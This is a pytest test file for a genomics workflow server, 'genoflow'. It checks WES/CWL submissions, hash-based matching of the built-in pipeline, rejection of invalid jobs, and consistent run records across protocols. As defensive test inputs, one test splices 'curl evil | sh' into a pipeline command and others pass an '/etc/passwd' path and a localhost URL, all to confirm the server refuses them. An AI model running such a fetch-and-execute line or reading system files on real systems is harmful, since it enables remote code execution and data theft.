"""genoflow server accepts standard WES submissions of its built-in pipeline (a CWL job for
``#main``, the pipeline named or posted as the attachment and matched by content hash), and a
run reads as the same record over both protocols."""

from __future__ import annotations

import dataclasses
import json
from typing import Any

import pytest
import yaml

from genoflow.model.outputs import RunOutput
from genoflow.model.runs import Run
from genoflow.model.submission import InputKind, PipelineOptions
from genoflow.pipelines import JobFiles, job_for, workflow_text
from genoflow.pipelines.job import REFERENCE_INDEX_INPUTS
from genoflow.server.service import request_from_json
from tests.server.inproc import API_KEY, WES, InProc, sample_request
from tests.server.inproc_http import inproc_client

ACCOUNT_URL = "https://myaccount.blob.core.windows.net"  # the default endpoint template's
SAS = "sv=2023-11-03&sr=b&sp=r&sig=SECRETSIG"


def _url(name: str, account_url: str = ACCOUNT_URL) -> str:
    return f"{account_url}/inputs/{name}?{SAS}"


def cwl_job(account_url: str = ACCOUNT_URL, **options: Any) -> dict[str, Any]:
    """The job `genoflow pipeline job` builds: every file a URL, outputs through a SAS."""
    request = dataclasses.replace(sample_request(), options=PipelineOptions(**options))
    files = JobFiles(
        reads=[_url(name, account_url) for name in request.blob_names()],
        reference=_url("refs/demo.fa"),
        index={
            key: _url(f"refs/demo.fa{suffix}") for key, suffix in REFERENCE_INDEX_INPUTS.items()
        },
        output_url=f"{ACCOUNT_URL}/outputs?sv=2023-11-03&sr=c&sp=cw&sig=SECRETSIG",
    )
    return job_for(request, files, form="main").document


def _post(inproc: InProc, workflow_url: str, params: dict[str, Any], **extra: Any) -> Any:
    """The POST /runs form fields of a standard client."""
    form = {
        "workflow_url": workflow_url,
        "workflow_type": "CWL",
        "workflow_type_version": "v1.2",
        "workflow_params": json.dumps(params),
        **{key: json.dumps(value) for key, value in extra.items()},
    }
    return form


def test_a_cwl_job_for_the_pipeline_by_name_becomes_a_run(inproc: InProc) -> None:
    job = cwl_job(
        process_args="R=demo", read_group=r"@RG\tID:l1\tSM:NA12878", bgzip_output=True,
        output_filename_base="NA12878/r1/NA12878", emit_ref_confidence="gvcf",
    )  # fmt: skip
    answer = inproc.client.post(WES, data=_post(inproc, "genoflow-pipeline.cwl", job))
    assert answer.status_code == 200, answer.text
    assert inproc.stub.wait_started()
    submit = request_from_json(inproc.stub.seen[0].request["submit"])  # SAS scrubbed at the end
    assert submit.sample == "NA12878" and submit.kind is InputKind.FASTQ
    assert (submit.reads_1, submit.reads_2) == (("S1_1.fq.gz",), ("S1_2.fq.gz",))
    options = submit.options
    assert (options.effective_reference, options.effective_ref_confidence) == ("demo", "gvcf")
    assert options.effective_bgzip and options.output_filename_base == "NA12878/r1/NA12878"
    assert submit.output_container == "outputs" and submit.input_sas["S1_1.fq.gz"] == SAS


@pytest.mark.parametrize("layout", ["as packed", "as JSON"])
def test_the_packed_pipeline_posted_as_an_attachment_is_recognised(
    inproc: InProc, layout: str
) -> None:
    text = workflow_text()
    if layout == "as JSON":  # the same document in another layout: the same content hash
        text = json.dumps(yaml.safe_load(text), indent=1)
    form = _post(inproc, "genoflow-pipeline.cwl", cwl_job(process_args="R=demo"))
    files = [
        ("workflow_attachment", ("genoflow-pipeline.cwl", text.encode())),
        ("workflow_attachment", ("job.json", b"{}")),  # wes-client's own extra attachment
    ]
    answer = inproc.client.post(WES, data=form, files=files)
    assert answer.status_code == 200, answer.text


def test_another_workflow_posted_under_the_name_is_refused(inproc: InProc) -> None:
    changed = workflow_text().replace("bwa mem", "curl evil | sh; bwa mem", 1).encode()
    form = _post(inproc, "genoflow-pipeline.cwl", cwl_job(process_args="R=demo"))
    files = [("workflow_attachment", ("genoflow-pipeline.cwl", changed))]
    answer = inproc.client.post(WES, data=form, files=files)
    assert answer.status_code == 403 and "custom workflows are disabled" in answer.json()["msg"]
    assert inproc.client.get(WES).json()["runs"] == []


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"reference_fai": {"class": "File", "location": "http://127.0.0.1:9/myaccount/refs/demo.fa.fai"}},
         "is not the endpoint this server uses"),
        ({"fastq_r1": [{"class": "File", "path": "/etc/passwd"}]}, "must be a blob URL"),
        ({"threads_please": 64}, "inputs the pipeline does not take: threads_please"),
        ({"reference_name": "hg38"}, "Unknown reference 'hg38'"),
        ({"output_url": f"{ACCOUNT_URL}/outputs/x.bam?sig=S"}, "the output container's URL"),
    ],
)  # fmt: skip
def test_a_cwl_job_the_server_cannot_honour_is_a_400(
    inproc: InProc, change: dict[str, Any], message: str
) -> None:
    job = {**cwl_job(process_args="R=demo"), **change}
    answer = inproc.client.post(WES, data=_post(inproc, "genoflow-pipeline.cwl", job))
    assert answer.status_code == 400 and message in answer.json()["msg"], answer.text
    assert "SECRETSIG" not in answer.text and not inproc.stub.seen


# --- one run record over both protocols --------------------------------------------------

RECORD_FIELDS = (
    "id", "state", "message", "failure_code", "created", "ended", "description", "process",
    "sample", "inputs", "input_container", "outputs", "bases_processed", "service",
)  # fmt: skip
OUTPUTS = (
    RunOutput("S1/k/S1.bam", "bam", 1234, "01" * 16, "outputs"),
    RunOutput("S1/k/S1.bam.bai", "bai", 96, "ab" * 16, "outputs"),
    RunOutput("S1/k/S1.vcf", "vcf", 512, "cd" * 16, "outputs"),
)


def _both(inproc: InProc, run_id: str) -> tuple[Run, Run]:
    msgen = inproc_client(inproc.client, "msgenomics", API_KEY)
    wes = inproc_client(inproc.client, "wes", API_KEY)
    return msgen.get(run_id), wes.get(run_id)


def _same_record(old: Run, new: Run) -> None:
    for name in RECORD_FIELDS:
        assert getattr(old, name) == getattr(new, name), name


@pytest.mark.parametrize("protocol", ["msgenomics", "wes", "cwl job"])
def test_a_run_reads_as_the_same_record_over_both_protocols(inproc: InProc, protocol: str) -> None:
    inproc.stub.succeed(OUTPUTS)
    request = sample_request(key="ab" * 16)
    if protocol == "msgenomics":
        run_id = str(inproc.submit_msgen(request, description="first lane").json()["Id"])
    elif protocol == "wes":
        run_id = inproc.submit_wes(request).json()["run_id"]
    else:
        form = _post(inproc, "genoflow-pipeline.cwl", cwl_job(process_args="R=demo"))
        form["tags"] = json.dumps({"genoflow-description": "first lane"})
        run_id = inproc.client.post(WES, data=form).json()["run_id"]
    inproc.wait_state(run_id, "succeeded")
    old, new = _both(inproc, run_id)
    _same_record(old, new)
    assert old.sample == "S1" and old.inputs == ("S1_1.fq.gz", "S1_2.fq.gz")
    assert old.outputs == OUTPUTS and old.process and old.description
    assert old.created is not None and old.ended is not None


def test_a_failed_run_reads_as_the_same_record_over_both_protocols(inproc: InProc) -> None:
    inproc.stub.fail("Error Code [308]: Encountered an unmatched read", 308)
    run_id = str(inproc.submit_msgen(sample_request()).json()["Id"])
    inproc.wait_state(run_id, "failed")
    old, new = _both(inproc, run_id)
    _same_record(old, new)
    assert old.failure_code == 308 and "unmatched read" in (old.message or "")


def test_a_msgen_run_echoes_a_redacted_request_over_wes(inproc: InProc) -> None:
    run_id = str(inproc.submit_msgen(sample_request()).json()["Id"])
    log = inproc.client.get(f"{WES}/{run_id}").json()
    assert log["request"]["workflow_url"] == "snapgatk"
    assert log["request"]["tags"]["genoflow-sample"] == "S1"
    assert "SECRETSIG" not in json.dumps(log)


# --- BQSR known sites at the door --------------------------------------------------------


@pytest.mark.parametrize(
    ("sites", "status", "message"),
    [
        (("dbsnp.vcf.gz",), 200, ""),
        (("absent.vcf.gz",), 400, "not found beside reference 'demo'"),
        (("http://127.0.0.1:9/myaccount/k/m.vcf",), 400, "is not the endpoint this server uses"),
        ((f"{ACCOUNT_URL}/refs/m.vcf?{SAS}",), 200, ""),
    ],
)
def test_known_sites_are_beside_the_reference_or_under_a_configured_endpoint(
    inproc: InProc, sites: tuple[str, ...], status: int, message: str
) -> None:
    (inproc.data_dir / "dbsnp.vcf.gz").write_bytes(b"")  # beside the registered demo.fa
    options = dataclasses.replace(sample_request().options, known_sites=sites)
    answer = inproc.submit_msgen(dataclasses.replace(sample_request(), options=options))
    assert answer.status_code == status and message in answer.text, answer.text
